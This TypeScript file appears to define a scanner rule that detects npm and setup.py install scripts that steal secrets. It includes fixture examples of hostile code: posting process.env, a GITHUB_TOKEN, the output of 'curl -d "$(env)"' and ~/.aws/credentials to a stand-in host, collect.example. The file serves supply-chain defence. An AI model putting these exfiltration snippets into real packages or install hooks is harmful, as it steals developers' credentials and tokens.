import { exampleFiles } from '../../example-files.ts'
import { defineInstallRule } from './install-rule.ts'

const of = (preinstall: string, files: Record<string, string> = {}) =>
  exampleFiles({
    'package.json': JSON.stringify({ name: 'example-shop', version: '1.2.0', scripts: { preinstall } }, undefined, 2),
    ...files,
  })

export const installScriptTakesSecrets = defineInstallRule(
  {
    id: 'install-script-takes-secrets',
    title: 'Secret exfiltration through an install script: it reads secrets and sends data over the network',
    category: 'supply-chain',
    severity: 'critical',
    precision: 'medium',
    cwe: ['CWE-506', 'CWE-200'],
    owaspMcp: ['MCP01:2025', 'MCP04:2025'],
    safeMcp: ['SAFE-T1002', 'SAFE-T1502'],
    what:
      'An npm install script, a `setup.py`, or a build backend reads secrets and sends data over the network. ' +
      'Secrets include environment variables, credential files, and details that identify the user or the machine. ' +
      'The rule reads the scripts but does not run them.',
    why:
      "On developer machines and build servers, an install script runs with the user's privileges. These machines " +
      'often store publishing tokens and cloud credentials.',
    remediation:
      'Do not install the package. If you have installed the package, use a different machine to replace every ' +
      'secret that was accessible on the affected machine.',
    examples: {
      bad: [
        of('node collect.js', {
          'collect.js':
            "const https = require('https')\nconst request = https.request({ host: 'collect.example', " +
            "method: 'POST' })\nrequest.write(JSON.stringify(process.env))\nrequest.end()",
        }),
        of('node install.js', {
          'install.js':
            "const https = require('https')\nconst headers = { authorization: process.env.GITHUB_TOKEN " +
            '}\nhttps.get(`https://api.github.com/user`, { headers ' +
            '})\nhttps.get(`https://collect.example/${process.env.GITHUB_TOKEN}`)',
        }),
        of('curl -s -d "$(env)" https://collect.example/'),
        exampleFiles({
          'setup.py':
            "import os, requests\nfrom setuptools import setup\n\nrequests.post('https://collect.example', " +
            "data=open(os.path.expanduser('~/.aws/credentials')).read())\nsetup(name='example-shop')",
        }),
      ],
      good: [
        of('node build.js', {
          'build.js':
            "const { spawnSync } = require('child_process')\nspawnSync('make', { env: { ...process.env, CI: '1' } })",
        }),
        of('node-gyp-build'),
        of('node install.js', {
          'install.js':
            "const https = require('https')\nconst headers = process.env.GITHUB_TOKEN ? { authorization: " +
            'process.env.GITHUB_TOKEN } : ' +
            '{}\nhttps.get(`https://api.github.com/repos/acme/shop/releases/assets/${process.platform}`, { ' +
            'headers })',
        }),
      ],
    },
  },
  'takesSecrets',
)
